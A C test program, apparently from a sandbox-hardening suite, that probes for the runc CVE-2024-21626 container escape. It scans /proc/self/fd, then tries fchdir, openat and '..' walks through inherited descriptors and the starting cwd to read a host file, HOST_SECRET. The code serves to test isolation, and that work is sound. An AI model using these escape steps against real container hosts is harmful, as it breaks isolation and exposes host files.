/*
 * fds.c - leaked descriptors and a working directory outside the root (CVE-2024-21626).
 *   scan-fds   list /proc/self/fd: anything beyond 0-2 was inherited from the host
 *   fchdir     fchdir() to every possible fd 3..1023 and look for HOST_SECRET up the tree
 *   openat     openat(fd, "HOST_SECRET") and openat(fd, "../HOST_SECRET") on every fd
 *   cwd        getcwd(), then walk ".." from the starting cwd looking for HOST_SECRET
 * Any HOST_SECRET content found is printed; the script checks its token never shows up.
 */
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>

#include "hostile.h"

static void dump_secret(int dirfd, const char *rel, const char *how)
{
	int fd = openat(dirfd, rel, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	char buf[256];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n < 0)
		n = 0;
	buf[n] = 0;
	ESCAPED("read %s via %s: %s", rel, how, buf);
}

static void walk_up(const char *how)
{
	for (int i = 0; i < 12; i++) {
		dump_secret(AT_FDCWD, "HOST_SECRET", how);
		if (chdir("..") < 0)
			break;
	}
}

int main(int argc, char **argv)
{
	h_variant = argc > 1 ? argv[1] : "scan-fds";
	if (!strcmp(h_variant, "scan-fds")) {
		DIR *d = opendir("/proc/self/fd");
		if (!d) {
			BLOCKED("opendir /proc/self/fd: %s", strerror(errno));
			return h_finish();
		}
		int self = dirfd(d), extra = 0;
		struct dirent *de;
		while ((de = readdir(d))) {
			if (de->d_name[0] < '0' || de->d_name[0] > '9')
				continue;
			int fd = (int)strtol(de->d_name, NULL, 10);
			char p[64], t[4096] = "";
			snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
			ssize_t l = readlink(p, t, sizeof t - 1);
			if (l > 0)
				t[l] = 0;
			if (fd <= 2 || fd == self) {
				INFO("fd %d -> %s", fd, t);
				continue;
			}
			extra++;
			ESCAPED("inherited fd %d -> %s", fd, t);
		}
		closedir(d);
		if (!extra)
			BLOCKED("only fds 0-2 present");
	} else if (!strcmp(h_variant, "fchdir")) {
		int opened = 0;
		for (int fd = 3; fd < 1024; fd++) {
			if (fcntl(fd, F_GETFD) < 0)
				continue;
			opened++;
			if (fchdir(fd) == 0) {
				char how[32];
				snprintf(how, sizeof how, "fchdir(%d)", fd);
				walk_up(how);
				if (chdir("/") < 0)
					return 1;
			}
		}
		if (!h_escaped)
			BLOCKED("%d fds above 2, no host directory reachable", opened);
	} else if (!strcmp(h_variant, "openat")) {
		int opened = 0;
		for (int fd = 3; fd < 1024; fd++) {
			if (fcntl(fd, F_GETFD) < 0)
				continue;
			opened++;
			char how[32];
			snprintf(how, sizeof how, "openat(%d)", fd);
			dump_secret(fd, "HOST_SECRET", how);
			dump_secret(fd, "../HOST_SECRET", how);
			dump_secret(fd, "", how);
		}
		if (!h_escaped)
			BLOCKED("%d fds above 2, nothing readable through them", opened);
	} else if (!strcmp(h_variant, "cwd")) {
		char buf[4096];
		if (!getcwd(buf, sizeof buf))
			INFO("getcwd: %s (cwd outside the root?)", strerror(errno));
		else
			INFO("cwd %s", buf);
		char t[4096] = "";
		ssize_t l = readlink("/proc/self/cwd", t, sizeof t - 1);
		if (l > 0)
			t[l] = 0;
		INFO("/proc/self/cwd -> %s", t);
		walk_up("cwd ..");
		if (!h_escaped)
			BLOCKED("no HOST_SECRET reachable from the starting cwd");
	}
	return h_finish();
}
